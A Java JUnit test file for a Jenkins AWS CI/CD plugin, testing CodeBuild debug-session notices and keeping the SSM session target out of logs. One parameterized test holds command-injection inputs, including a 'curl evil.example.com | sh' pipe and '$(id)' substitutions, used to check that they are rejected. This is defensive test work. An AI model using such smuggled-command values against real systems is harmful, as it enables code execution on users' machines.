package io.jenkins.plugins.awscicd.engine.codebuild;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotNull;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.jenkins.plugins.awscicd.engine.RecordedConsole;
import io.jenkins.plugins.awscicd.engine.job.Progress;
import io.jenkins.plugins.awscicd.localaws.codebuild.Build;
import io.jenkins.plugins.awscicd.localaws.codebuild.Status;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** A build that can be entered says so, but not how, where everybody reads it. */
class DebugSessionTest extends SteppedBuilds {

    private static final String OPEN =
            "A debug session can be opened: the build pauses where its buildspec calls codebuild-breakpoint. How to enter it is on the"
                    + " AWS page of this run, for those who may configure the job";
    private static final String PAUSED =
            "The build is paused at codebuild-breakpoint. It goes on when codebuild-resume is called in its session; AWS ends it when it"
                    + " has run for 1 h 0 min in all";
    private static final String GOES_ON = "The build goes on after codebuild-breakpoint";

    @BeforeEach
    void project() {
        bench.simulatedProject("web", it -> it.variable("SIMULATED_BREAKPOINT", "true"));
    }

    private BuildRun begin(boolean debugged) {
        return new BuildRun(bench).start(new BuildRequest(Map.of("project", "web", "debugSession", debugged)));
    }

    private static List<String> told(BuildRun run) {
        return run.console().lines().stream()
                .filter(line -> line.contains("session") || line.contains("codebuild-breakpoint"))
                .toList();
    }

    private Progress progress(BuildRun run) {
        return run.observed().progress(bench.session());
    }

    @Test
    void itsPauseIsToldAndTheWayInIsWithItsProgressAlone() {
        BuildRun run = begin(true);
        bench.advanceUntil(() -> told(run).size() == 2, LONG);
        assertEquals(List.of(OPEN, PAUSED), told(run));
        Build build = onlyBuild();
        Progress.WayIn way = progress(run).wayIn();
        assertNotNull(way);
        assertEquals("aws ssm start-session --target " + build.sessionTarget() + " --region eu-west-1", way.command());
        assertTrue(way.url().contains("/codesuite/codebuild/123456789012/projects/web/build/"), way.url());
        bench.advance(600);
        assertFalse(run.isOver());

        bench.aws().codeBuild().resume(build.id());
        untilOver(run);
        assertEquals(List.of(OPEN, PAUSED, GOES_ON), told(run));
        assertTrue(run.last().succeeded());
        assertNull(run.last().progress(bench.session()).wayIn(), "nobody enters what has ended");
    }

    /** Nothing that is printed, thrown or kept says it. */
    @Test
    void whatLetsPeopleInIsNowhereElse() {
        BuildRun run = begin(true);
        bench.advanceUntil(() -> told(run).size() == 2, LONG);
        String target = onlyBuild().sessionTarget();
        List<String> everywhere = new ArrayList<>(run.console().lines());
        everywhere.addAll(run.console().output());
        everywhere.add(run.disk().read().toString());
        everywhere.add(run.observed().toString());
        everywhere.add(progress(run).toString());
        everywhere.add(run.job().status());
        bench.aws().codeBuild().resume(onlyBuild().id());
        untilOver(run);
        everywhere.add(run.last().toString());
        for (String text : everywhere) {
            assertFalse(text.contains(target), text);
        }
    }

    /** People paste the command into their terminal, whoever has answered as AWS. */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "codebuild:1; curl evil.example.com | sh",
                "codebuild:1\ncurl evil.example.com",
                "$(id)",
                "`id`",
                "a & b",
                "a > b",
                "--endpoint-url=https://evil.example.com",
                "\u202ea",
                "'",
                ""
            })
    void noOtherCommandIsMadeOfIt(String target) {
        assertNull(DebugSession.of(software.amazon.awssdk.services.codebuild.model.Build.builder()
                .debugSession(session -> session.sessionEnabled(true).sessionTarget(target))
                .build()));
    }

    private final RecordedConsole said = new RecordedConsole();

    /** What is said once a session can be opened, this was read, and a minute has passed. */
    private List<String> after(String... messages) {
        DebugSession.Told told = new DebugSession.Told(said, bench.scheduler(), true);
        told.look(new DebugSession("codebuild:1", Duration.ofHours(1)));
        told.read(List.of(messages));
        for (int second = 0; second < 60; second++) {
            bench.advance(1);
            told.looked();
        }
        return said.lines();
    }

    /** What has the name in it does not pause a build, nor does what it prints. */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "[Container] 2026/11/30 10:00:00.000000 Running command echo codebuild-breakpoint\n",
                "[Container] 2026/11/30 10:00:00.000000 Running command echo \"later; codebuild-breakpoint\"\n",
                "[Container] 2026/11/30 10:00:00.000000 Running command make || codebuild-breakpoint\n",
                "[Container] 2026/11/30 10:00:00.000000 Running command codebuild-breakpoint-later; make\n",
                "[Container] 2026/11/30 10:00:00.000000 Running command codebuild-breakpoint & make\n",
                "[Container] 2026/11/30 10:00:00.000000 Running command ./codebuild-breakpoint.sh\n",
                "[Container] 2026/11/30 10:00:00.000000 Running command grep codebuild-breakpoint buildspec.yml\n",
                "Running command codebuild-breakpoint\n",
                "codebuild-breakpoint\n"
            })
    void aBuildThatOnlyNamesTheCommandIsNotPaused(String message) {
        assertEquals(List.of(), after(message));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "codebuild-breakpoint\n",
                "codebuild-breakpoint",
                "codebuild-breakpoint \necho on\n",
                "codebuild-breakpoint; make\n",
                "codebuild-breakpoint && make\n",
                "codebuild-breakpoint || true\n"
            })
    void theCommandItselfPausesABuildThatSaysNothingMore(String command) {
        assertEquals(List.of(PAUSED), after("[Container] 2026/11/30 10:00:00.000000 Running command " + command));
    }

    @Test
    void whatPrintsTheLineAndGoesOnIsNotPaused() {
        String line = "[Container] 2026/11/30 10:00:00.000000 Running command codebuild-breakpoint\n";
        assertEquals(List.of(), after(line, "and so on\n"));
    }

    @Test
    void nothingIsPausedBeforeASessionCanBeOpened() {
        DebugSession.Told told = new DebugSession.Told(said, bench.scheduler(), true);
        told.read(List.of("[Container] 2026/11/30 10:00:00.000000 Running command codebuild-breakpoint\n"));
        bench.advance(60);
        told.looked();
        assertEquals(List.of(), said.lines());
    }

    @Test
    void aBuildWithoutASessionDoesNotPause() {
        BuildRun run = begin(false);
        untilOver(run);
        assertEquals(List.of(), told(run));
        assertTrue(run.last().succeeded());
    }

    @Test
    void aRestartTellsItOnce() {
        BuildRun before = begin(true);
        bench.advanceUntil(() -> told(before).size() == 2, LONG);
        before.job().abandon();
        bench.advance(60);
        BuildRun after = new BuildRun(bench).after(before).resume(before.id());
        bench.advance(30);
        assertEquals(List.of(), told(after));
        assertNotNull(progress(after).wayIn(), "known again");
        bench.aws().codeBuild().resume(onlyBuild().id());
        untilOver(after);
        assertTrue(after.last().succeeded());
    }

    @Test
    void onePausedForTooLongIsEndedByAws() {
        BuildRun run = begin(true);
        bench.advanceUntil(run::isOver, Duration.ofHours(2));
        assertEquals("TIMED_OUT", run.last().status());
    }

    @Test
    void anAbortStopsOneThatIsPaused() {
        BuildRun run = begin(true);
        bench.advanceUntil(() -> told(run).size() == 2, LONG);
        run.job().stop();
        untilOver(run);
        assertEquals(Status.STOPPED, onlyBuild().status());
    }
}
